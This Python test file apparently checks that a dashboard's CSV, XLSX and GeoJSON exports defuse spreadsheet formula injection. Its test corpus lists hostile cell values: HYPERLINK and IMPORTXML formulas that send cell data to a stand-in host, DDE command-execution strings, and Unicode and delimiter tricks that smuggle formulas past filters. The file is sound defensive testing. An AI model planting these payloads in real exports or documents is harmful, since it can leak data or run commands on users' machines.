"""A name that is a formula leaves as text: in CSV and Excel no cell starts one."""

# abuse 08

import csv
import io
import json
import unicodedata
from collections.abc import Callable
from datetime import UTC, date, datetime

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from dashboard.defused import defused
from dashboard.exporting.document import About, Column, Document, Marking, Sheet
from dashboard.exporting.export import export

RUNS = "=+-@\t\r\n\0"
CORPUS = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u2003-1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u200e@A1",
    "\u202e=1+1",
    "\u2060+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20A1",
    "\ufe661+1",
    "\ufe621",
    "\ufe631",
    "\ufe6bA1",
    "\u22121+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    "a;=1+1",
    'a","=1+1',
    "a\r\n=1+1",
    "=1+1\0",
    "\x1b=1+1",
    "\u0085=1+1",
    "\u061c=1",
    "=" * 300,
    '=IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    "%0A=1+1",
    "E05000001",
)


def document(texts: tuple[str, ...]) -> Document:
    return Document(
        "Ward names",
        (
            Sheet(
                "=Names",
                (Column("ward", "=Ward()"), Column("n", "n", "number")),
                tuple((t, 7) for t in texts),
            ),
        ),
        Marking("OFFICIAL", "=handle()", "+everybody", date(2027, 1, 1)),
        About("@Northam", "2025", "-none", "=why()", datetime(2026, 1, 2, tzinfo=UTC), "=Analyst()"),
    )


def runs(cell: object) -> bool:
    """Whether a spreadsheet would take a cell for a formula."""
    if not isinstance(cell, str) or not cell:
        return False
    first = cell.lstrip(" \u00a0\u2003\ufeff\u200b\u200e\u202e\u2060\u061c\u0085\x1b")[:1] or " "
    return cell[0] in RUNS or unicodedata.normalize("NFKC", first) in {*RUNS, "\u2212"}


def csv_cells(data: bytes, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def calamine_cells(data: bytes) -> list[object]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(data))
    return [c for name in book.sheet_names for row in book.get_sheet_by_name(name).to_python() for c in row]


def openpyxl_cells(data: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type in {"s", "n"} for cell in cells if cell.value is not None)
    return [cell.value for cell in cells]


DOORS: dict[str, Callable[[], list[object]]] = {
    "csv": lambda: list(csv_cells(export(document(CORPUS), "csv").data)),
    "xlsx by openpyxl": lambda: openpyxl_cells(export(document(CORPUS), "xlsx").data),
    "xlsx by calamine": lambda: calamine_cells(export(document(CORPUS), "xlsx").data),
}


def test_no_cell_starts_a_formula(proof: Callable[[str], None]) -> None:
    looked = {name: read() for name, read in DOORS.items()}
    started = {name: [cell for cell in cells if runs(cell)] for name, cells in looked.items()}
    assert started == {name: [] for name in DOORS}
    assert len(CORPUS) >= 40
    cells = sum(map(len, looked.values()))
    proof(f"formulas: 0 started of {cells:,} cells, {len(CORPUS)} texts by {len(DOORS)} readers")


def test_the_words_come_back() -> None:
    back = csv_cells(export(document(("=Mill", "Quay", "-12", "Ty-Mawr")), "csv").data)
    assert {"'=Mill", "Quay", "'-12", "Ty-Mawr"} <= set(back)


def test_another_delimiter_opens_no_cell() -> None:
    """A text is in quotes: a reader that splits at semicolons or tabs finds no formula behind one."""
    data = export(document(("a;=1+1", "a\t=1+1", 'a";=1+1')), "csv").data
    assert not [cell for cell in csv_cells(data, ";") if cell.startswith("=")]


def test_a_number_stays_one_and_a_negative_one_too() -> None:
    sheet = Sheet("t", (Column("n", "n", "number"),), ((-3,), (1.5,)))
    told = Document("t", (sheet,), document(()).marking, document(()).about)
    assert -3 in calamine_cells(export(told, "xlsx").data)
    assert b"\r\n-3," in export(told, "csv").data


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=12))
def test_whatever_the_text_nothing_starts(text: str) -> None:
    assert not runs(defused(text))


def test_geojson_holds_them_as_text() -> None:
    from shapely.geometry import box

    sheet = Sheet("t", (Column("ward", "Ward"),), (("=1+1",),), (box(530_000, 180_000, 531_000, 181_000),))
    told = Document("t", (sheet,), document(()).marking, document(()).about)
    assert json.loads(export(told, "geojson").data)["features"][0]["properties"] == {"ward": "'=1+1"}
